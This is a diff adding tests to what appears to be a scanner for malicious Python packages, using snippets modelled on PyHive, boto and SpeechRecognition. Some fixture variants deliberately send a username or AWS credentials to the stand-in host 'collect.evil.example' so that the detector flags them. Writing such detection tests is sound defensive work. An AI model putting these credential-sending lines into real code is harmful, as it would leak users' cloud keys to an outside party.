@@ -401,3 +401,95 @@ def test_server_data_in_a_fixed_programs_arguments_is_not_code(tmp_path: Path) -
     # and so is a vector whose program itself comes from the server
     served = _CRACK_CLIENT.replace('["aircrack-ng", "-w"', '[work["tool"], "-w"')
     assert exam(tmp_path, "dtool", "dcrack.py", served) == {"thr-decoded-exec": "dtool/dcrack.py"}
+
+
+# PyHive 0.7.0 presto.py: the cursor sends the user's name to the server its caller named
+_PRESTO_CURSOR = """\
+import getpass
+from urllib.parse import urlunparse
+
+import requests
+
+class Cursor:
+    def __init__(self, host, port="8080", username=None, protocol="http"):
+        self._host = host
+        self._port = port
+        self._protocol = protocol
+        self._username = username or getpass.getuser()
+        self._session = requests.Session()
+
+    def execute(self, sql):
+        headers = {"X-Presto-User": self._username}
+        netloc = "{}:{}".format(self._host, self._port)
+        url = urlunparse((self._protocol, netloc, "/v1/statement", None, None, None))
+        return self._session.post(url, data=sql, headers=headers)
+"""
+
+
+def test_identity_sent_to_the_server_the_constructor_was_handed_is_the_protocol(
+    tmp_path: Path,
+) -> None:
+    assert exam(tmp_path, "presto", "presto.py", _PRESTO_CURSOR) == {}
+    # the same class built, in the file, for an address the code names itself beacons
+    built = _PRESTO_CURSOR + "\nCursor('collect.evil.example').execute('select 1')\n"
+    assert "thr-recon-sent" in exam(tmp_path, "prestob", "presto.py", built)
+    # so does a field set to such an address by the constructor, or by another method
+    named = _PRESTO_CURSOR.replace("self._host = host", "self._host = 'collect.evil.example'")
+    assert "thr-recon-sent" in exam(tmp_path, "prestol", "presto.py", named)
+    moved = _PRESTO_CURSOR + (
+        "\n    def use(self, other):\n        self._host = other.lookup()\n"
+    )
+    assert "thr-recon-sent" in exam(tmp_path, "prestom", "presto.py", moved)
+
+
+# boto 2.49 connection.py: the host a provider built with the keys names is no key
+_BOTO_CONNECTION = """\
+import socket
+from boto.provider import Provider
+
+class AWSAuthConnection:
+    def __init__(self, host, aws_access_key_id=None, aws_secret_access_key=None):
+        self.provider = Provider("aws", aws_access_key_id, aws_secret_access_key)
+        self.host = self.provider.host or host
+        self.port = self.provider.port
+
+    def proxy_ssl(self, proxy):
+        sock = socket.create_connection((proxy, 8080))
+        sock.sendall("CONNECT %s:%d HTTP/1.0\\\\r\\\\n" % (self.host, self.port))
+        return sock
+"""
+
+
+def test_where_an_object_built_with_keys_connects_is_not_its_keys(tmp_path: Path) -> None:
+    assert exam(tmp_path, "awsconn", "connection.py", _BOTO_CONNECTION) == {}
+    # the object itself, or a key read off it, still carries the keys
+    whole = _BOTO_CONNECTION.replace("(self.host, self.port)", "(self.provider, self.port)")
+    assert "thr-access-secret-sent" in exam(tmp_path, "awsconnw", "connection.py", whole)
+
+
+# SpeechRecognition 3.17: the transcript's address comes from the reply of a client built
+# with the caller's AWS keys; it carries none of them
+_TRANSCRIBE = """\
+import urllib.request
+
+import boto3
+
+def recognize_amazon(audio, access_key_id=None, secret_access_key=None, region=None):
+    transcribe = boto3.client("transcribe", aws_access_key_id=access_key_id,
+                              aws_secret_access_key=secret_access_key, region_name=region)
+    status = transcribe.get_transcription_job(TranscriptionJobName="job")
+    uri = status["TranscriptionJob"]["Transcript"]["TranscriptFileUri"]
+    with urllib.request.urlopen(uri) as reply:
+        return reply.read()
+"""
+
+
+def test_a_reply_of_a_client_built_with_keys_does_not_carry_them(tmp_path: Path) -> None:
+    assert exam(tmp_path, "transcriber", "recognizer.py", _TRANSCRIBE) == {}
+    # the keys a client hands back, or the client itself, still carry them
+    for sent in ("transcribe.get_credentials()", "transcribe"):
+        leak = _TRANSCRIBE.replace(
+            "urllib.request.urlopen(uri)",
+            f"urllib.request.urlopen('https://collect.evil.example/k', data=str({sent}))",
+        )
+        assert "thr-access-secret-sent" in exam(tmp_path, "transcriberl", "recognizer.py", leak)
